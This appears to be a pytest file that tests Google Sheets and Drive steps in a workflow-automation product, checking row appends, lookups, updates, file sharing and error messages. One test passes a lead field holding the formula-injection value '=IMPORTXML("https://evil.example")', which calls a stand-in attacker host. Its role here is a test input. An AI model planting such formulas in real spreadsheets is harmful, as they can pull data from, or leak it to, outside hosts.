"""Drive and Sheets as steps of a workflow: what they do over there, and how each failure reads."""

from typing import Any
from uuid import UUID

import pytest

from aerostic.core import clock
from aerostic.domain.automation.models import ExecutionMode
from aerostic.domain.automation.nodes import BY_KIND
from aerostic.domain.automation.nodes.base import ERROR, OUT, TOOL
from aerostic.domain.automation.nodes.google import NOT_FOUND
from aerostic.domain.connections.models import GoogleConnection
from aerostic.integrations.google.oauth import Scope
from tests.automation.kinds import chain, graph_of, outputs, ran, steps, test_kinds  # noqa: F401
from tests.builders import conversation_of
from tests.conftest import Place
from tests.connections.connecting import connect
from tests.google import SHEETS, GoogleHouse

LEADS = [["Name", "Phone", "E-mail", "Wish"]]


def step(place: Place, kind: str, config: dict[str, Any], **given: Any) -> dict[str, Any]:
    """The record of one step in a run of its own."""
    run = ran(place, chain((kind, config)), **given)
    found: dict[str, Any] = steps(place, run.id)[1]
    return found


def output(place: Place, kind: str, config: dict[str, Any], **given: Any) -> Any:
    record = step(place, kind, config, **given)
    assert record["status"] == "done", record
    return record["output"]


@pytest.fixture
def account(place: Place, google_house: GoogleHouse) -> str:
    return str(connect(place, google_house))


@pytest.fixture
def book(google_house: GoogleHouse) -> str:
    return str(google_house.file("Orders")["id"])


def rows(google_house: GoogleHouse, name: str = "Leads") -> list[list[Any]]:
    found: list[list[Any]] = google_house.file(name)["values"][name]
    return found


# Sheets


def test_a_lead_is_written_below_the_last(place, google_house, account):
    before = rows(google_house)
    book = f"https://docs.google.com/spreadsheets/d/{google_house.file('Leads')['id']}/edit#gid=0"
    config = {
        "account": account,
        "spreadsheet": book,
        "values": [
            {"name": "name", "value": "{{ input.name }}"},
            {"name": "Wish", "value": "{{ input.wish }}"},
            {"name": "Phone", "value": "+15550001111"},
        ],
    }
    given = {"name": "Ada", "wish": '=IMPORTXML("https://evil.example")'}
    told = output(place, "google.sheets", config, input=given)
    assert told["values"]["name"] == "Ada"
    assert rows(google_house) == [
        *before,
        ["Ada", "+15550001111", "", '=IMPORTXML("https://evil.example")'],
    ]


def test_a_column_that_is_not_there_is_named(place, google_house, account):
    config = {
        "account": account,
        "spreadsheet": google_house.file("Leads")["id"],
        "values": [{"name": "Colour", "value": "red"}],
    }
    record = step(place, "google.sheets", config)
    assert record["status"] == "failed"
    assert record["error"] == (
        "The sheet has no column “Colour”. Its first row names “Name”, “Phone”, “E-mail”, “Wish”."
    )


def test_an_order_is_looked_up_and_a_missing_one_takes_its_own_way(place, account, book):
    config = {
        "account": account,
        "action": "look_up",
        "spreadsheet": book,
        "column": "order",
        "equals": "{{ input.number }}",
    }
    graph = graph_of(
        ("t", "trigger.test", {}),
        ("look", "google.sheets", config),
        ("there", "test.name", {"name": "x", "value": "{{ sheetData.row.Status }}"}),
        ("gone", "test.name", {"name": "x", "value": "nothing"}),
        leads=["t look", "look there", "look.not_found gone"],
    )
    found = ran(place, graph, input={"number": "1002"})
    assert outputs(place, found.id)[-1] == ("there", "done", "in the kitchen")
    missing = ran(place, graph, input={"number": "7"})
    assert outputs(place, missing.id)[-1] == ("gone", "done", "nothing")


def test_rows_are_read_with_their_types(place, account, book):
    config = {"account": account, "action": "read", "spreadsheet": book, "limit": 2}
    told = output(place, "google.sheets", config)
    assert told["total"] == 3
    assert told["rows"][0] == {
        "Order": 1001,
        "Customer": "Amara Okafor",
        "Status": "shipped",
        "Total": 24.5,
        "row": 2,
    }


def test_rows_that_fit_are_changed_or_one_is_added(place, google_house, account, book):
    config = {
        "account": account,
        "action": "update",
        "spreadsheet": book,
        "column": "Customer",
        "equals": "diego ramos",
        "values": [{"name": "Status", "value": "returned"}, {"name": "Total", "value": "0"}],
    }
    assert output(place, "google.sheets", config) == {"rows": [4], "count": 1, "added": False}
    assert rows(google_house, "Orders")[3] == [1003, "Diego Ramos", "returned", 0]
    missing = {**config, "equals": "Nobody"}
    assert step(place, "google.sheets", missing)["port"] == "not_found"
    before = len(rows(google_house, "Orders"))
    added = output(place, "google.sheets", {**missing, "add_if_missing": True})
    assert added["added"] is True
    assert rows(google_house, "Orders")[before] == ["", "", "returned", 0]
    # As it was, for the tests beside this one.
    undo = [{"name": "Status", "value": "delivered"}, {"name": "Total", "value": "31.2"}]
    output(place, "google.sheets", {**config, "values": undo})


def test_a_deleted_sheet_ends_the_step_with_the_reason(place, google_house, account):
    made = output(
        place, "google.drive", {"account": account, "action": "upload", "name": "a", "text": "b"}
    )
    google_house.delete(made["id"])
    config = {"account": account, "action": "read", "spreadsheet": made["id"]}
    record = step(place, "google.sheets", config)
    assert record["error"] == (
        "That is not in this Google account: it was deleted, or is not shared with it."
    )
    record = step(place, "google.sheets", {**config, "spreadsheet": "no such thing!"})
    assert record["error"] == "“no such thing!” is neither the address nor the id of a file."


def test_a_revoked_grant_ends_the_step_and_the_error_port_is_taken(
    place, google_house, account, book
):
    google_house.take_back()
    with place.system_work() as ctx:
        row = ctx.get(GoogleConnection, UUID(account))
        assert row
        row.access_until = clock.now()
    graph = graph_of(
        ("t", "trigger.test", {}),
        ("read", "google.sheets", {"account": account, "action": "read", "spreadsheet": book}),
        ("sorry", "test.name", {"name": "x", "value": "{{ error.message }}"}),
        leads=["t read", "read.error sorry"],
    )
    run = ran(place, graph)
    assert run.status == "done"
    assert outputs(place, run.id)[-1] == (
        "sorry",
        "done",
        "Google says that this permission has ended. Connect the account again.",
    )


def test_an_account_of_a_rival_or_none_is_no_account(place, rival, google_house, book):
    theirs = str(connect(rival, google_house))
    config = {"account": theirs, "action": "read", "spreadsheet": book}
    record = step(place, "google.sheets", config)
    assert record["error"] == "The Google account that this uses is not connected any more."
    record = step(place, "google.sheets", {**config, "account": None})
    assert record["error"] == "No Google account is chosen for this step."


def test_a_permission_that_is_missing_is_named(place, google_house):
    account = str(connect(place, google_house, scopes=[SHEETS]))
    record = step(place, "google.drive", {"account": account})
    assert record["error"] == (
        "amara.okafor@gmail.test was connected without Google Drive. Connect it again under Settings, "
        "Connections, and allow it."
    )


def test_nothing_is_written_in_a_recorded_run(place, google_house, account):
    before = rows(google_house)
    config = {
        "account": account,
        "spreadsheet": google_house.file("Leads")["id"],
        "values": [{"name": "Name", "value": "Nobody"}],
    }
    run = ran(place, chain(("google.sheets", config)), mode=ExecutionMode.RECORDED)
    assert run.status == "done"
    assert steps(place, run.id)[1]["status"] == "recorded"
    assert rows(google_house) == before


# Drive


def test_a_text_is_uploaded_found_read_and_shared(place, google_house, account):
    upload = {
        "account": account,
        "action": "upload",
        "name": "Order {{ input.id }}.txt",
        "text": "For {{ input.name }}",
    }
    made = output(place, "google.drive", upload, input={"id": 42, "name": "Ada"})
    assert made["name"] == "Order 42.txt"
    found = output(place, "google.drive", {"account": account, "search": "order 42"})
    assert [one["id"] for one in found["files"]] == [made["id"]]
    read = output(place, "google.drive", {"account": account, "action": "read", "file": made["id"]})
    assert (read["text"], read["content_type"]) == ("For Ada", "text/plain")
    share = {
        "account": account,
        "action": "share",
        "file": "https://drive.google.com/file/d/" + made["id"] + "/view",
        "email": "lena.fischer@gmail.test",
    }
    shared = output(place, "google.drive", share)
    assert shared["webViewLink"].startswith("https://drive.google.com/")
    roles = [one["role"] for one in google_house.file("Order 42.txt")["permissions"]]
    assert roles == ["owner", "reader"]


def test_without_a_file_in_the_message_nothing_is_uploaded(place, account):
    talk = conversation_of(place, "Ada")
    config = {"account": account, "action": "upload", "name": "photo", "source": "media"}
    record = step(place, "google.drive", config, conversation_id=talk)
    assert record["error"] == "There is no file to upload: the message holds none."


def test_trouble_at_google_is_said(place, google_house, account):
    google_house.trouble(500)
    record = step(place, "google.drive", {"account": account})
    assert record["error"] == ("Google had an error of its own. Whether it was done is not known.")


def test_both_are_tools_and_only_a_search_can_miss():
    sheets, drive = BY_KIND["google.sheets"], BY_KIND["google.drive"]
    assert sheets.outputs_of({"action": "append"}) == (OUT, ERROR, TOOL)
    assert sheets.outputs_of({"action": "look_up"}) == (OUT, NOT_FOUND, ERROR, TOOL)
    assert drive.outputs_of({}) == (OUT, ERROR, TOOL)
    assert {Scope.DRIVE, Scope.SHEETS} == set(Scope)
